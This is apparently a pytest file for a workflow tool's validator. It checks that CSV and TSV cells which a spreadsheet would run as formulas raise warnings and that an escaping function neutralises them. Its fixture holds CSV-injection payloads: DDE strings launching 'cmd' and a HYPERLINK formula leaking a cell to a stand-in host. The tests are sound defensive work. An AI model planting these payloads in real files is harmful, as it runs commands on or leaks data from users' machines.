"""Cells a spreadsheet would run as formulas: `formula-like-cell` warnings of CSV workflow files (OWASP's CSV
injection), and none for text that only looks a little like one."""

from __future__ import annotations

from pathlib import Path

import pytest

import agentmap

FLOW = (
    "GraphName,Node,AgentType,Prompt,Context,Notes\n"
    "G,A,echo,\"=cmd|' /C calc'!A0\",,B\n"
    "G,B,echo,- first point,,\"-2+3+cmd|' /C calc'!A0\"\n"
    "G,C,echo,\"@SUM(1+1)*cmd|' /C calc'!A0\",,\n"
    'G,D,echo,"\t=HYPERLINK(""http://example.com/?leak="" & A1)",,+1 555 0100\n'
)


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_a_csv_cell_a_spreadsheet_would_run_is_a_warning_naming_its_row_and_column(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"flow{suffix}"
    text = FLOW if suffix == ".csv" else FLOW.replace(",", "\t").replace('"\t=', '"=')  # no tab inside a TSV cell
    path.write_text(text, encoding="utf-8")
    found = [(i.row, i.column, i.severity) for i in agentmap.validate(path) if i.code == "formula-like-cell"]
    assert found == [
        (2, "Prompt", "warning"),
        (3, "Notes", "warning"),
        (4, "Prompt", "warning"),
        (5, "Prompt", "warning"),
    ]
    first = next(i for i in agentmap.validate(path) if i.code == "formula-like-cell")
    assert "=cmd|' /C calc'!A0" in first.message and "formula" in first.message and ".xlsx" in first.fix
    assert agentmap.compile(path).name == "G"  # a warning: the workflow still compiles


def test_bullets_numbers_mentions_and_prose_are_not_formulas(tmp_path: Path) -> None:
    path = tmp_path / "flow.csv"
    path.write_text(
        "GraphName,Node,AgentType,Prompt,Description,Notes\n"
        "G,A,echo,- first point (and a second),-3,+1 555 0100\n"
        "G,B,echo,@Ada please review,-,=\n"
        "G,C,echo,Total = SUM(costs),-1.5e3,'=1+2\n",
        encoding="utf-8",
    )
    assert [i for i in agentmap.validate(path) if i.code == "formula-like-cell"] == []


def test_a_workbooks_text_cell_is_never_run_so_it_is_no_finding(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["GraphName", "Node", "AgentType", "Prompt"])
    sheet.append(["G", "A", "echo", "x"])
    sheet["D2"].value = "=SUM(A1)"
    sheet["D2"].data_type = "s"  # text, as the studio saves what is typed
    path = tmp_path / "flow.xlsx"
    book.save(path)
    assert [i.code for i in agentmap.validate(path)] == []


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("=1+2", "'=1+2"),
        ("'=1+2", "'=1+2"),  # escaping twice is escaping once
        ("\r=1+2", "'\r=1+2"),
        ("-3", "-3"),
        ("- a bullet (with parens)", "- a bullet (with parens)"),
        ("=", "="),
    ],
)
def test_escaping_puts_a_quote_before_a_formula_only(text: str, escaped: str) -> None:
    from agentmap.spec.formulas import escape_formula, formula_like

    assert escape_formula(text) == escaped
    assert formula_like(text) is (escaped != text)
